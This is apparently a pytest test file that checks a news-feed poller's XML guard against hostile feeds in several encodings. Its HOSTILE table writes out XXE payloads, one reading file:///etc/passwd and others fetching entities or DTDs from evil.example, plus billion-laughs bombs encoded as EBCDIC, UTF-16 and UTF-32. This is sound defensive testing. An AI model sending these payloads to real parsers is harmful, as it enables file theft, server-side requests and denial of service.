"""Issue 11, item 5 (producer part): defusedxml guards the XML feedparser parses, in any encoding.

The guard judges the bytes as feedparser will decode them, so a billion-laughs
document in EBCDIC or UTF-32 is refused like the UTF-8 one; the last test
sends one through a real local HTTP server beside a good feed.
"""
from __future__ import annotations

import pytest

from newsradar.errors import FeedError
from newsradar.settings import Settings
from producers.config import FeedsFile
from producers.poller import Poller, run_async
from producers.safety import check_xml
from tests.samples.feeds import BILLION_LAUGHS, FeedServer, rss


def _declared(doc: bytes, encoding: str) -> bytes:
    return doc.decode().replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>',
                                1).encode(encoding)


HOSTILE = {
    "bomb-ebcdic-cp037": _declared(BILLION_LAUGHS, "cp037"),
    "bomb-utf-32": _declared(BILLION_LAUGHS, "utf-32"),
    "bomb-utf-16-no-declared-encoding": BILLION_LAUGHS.decode().encode("utf-16"),
    "bomb-shift-jis": _declared(BILLION_LAUGHS, "shift_jis"),
    "external-general-entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                               b'<rss>&x;</rss>',
    "parameter-entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><rss/>',
    "external-dtd": b'<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd"><rss/>',
    # A ">" inside the quoted public id hid the internal subset from a scan for "[" before ">".
    "subset-behind-quoted-gt": b'<!DOCTYPE rss PUBLIC "-//x>y//EN" "u" [<!ATTLIST item a CDATA "z">]><rss/>',
}

SAFE = {
    "rss-0.91-doctype": b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"/>',
    "xhtml-doctype": b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
                     b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    "html-error-page": b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
    "ill-formed-feed": b"<rss><channel><title>Tom & Jerry</title>",
    "ebcdic-feed": _declared(b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title></channel></rss>',
                             "cp037"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_xml_guard_refuses_entities_and_dtds_in_any_encoding(name):
    with pytest.raises(FeedError) as info:
        check_xml(HOSTILE[name])
    assert info.value.kind == "unsafe_xml"


@pytest.mark.parametrize("name", sorted(SAFE))
def test_xml_guard_lets_ordinary_documents_through(name):
    check_xml(SAFE[name])


def test_ebcdic_bomb_fails_its_feed_only_over_http():
    good = rss([{"title": f"Ordinary story number {i}", "link": f"https://good.example/{i}"} for i in range(3)])
    with FeedServer({"good.xml": good, "bomb.xml": HOSTILE["bomb-ebcdic-cp037"]}) as server:
        config = FeedsFile.model_validate({
            "allow_private_addresses": True, "parse_workers": 0, "http": {"per_host_interval_s": 0},
            "groups": [{"name": "g", "feeds": [{"id": "good", "url": server.url("/feeds/good.xml")},
                                               {"id": "bomb", "url": server.url("/feeds/bomb.xml")}]}]})
        poller = Poller(Settings(), config, use_kafka=False, use_es=False)
        summary = poller.publish(poller.collect(run_async(poller.fetch(config.feeds()))))
    by_feed = {f.feed_id: f for f in summary.feeds}
    assert (by_feed["bomb"].status, by_feed["bomb"].error_kind) == ("failed", "unsafe_xml")
    assert by_feed["good"].counts["published"] == 3
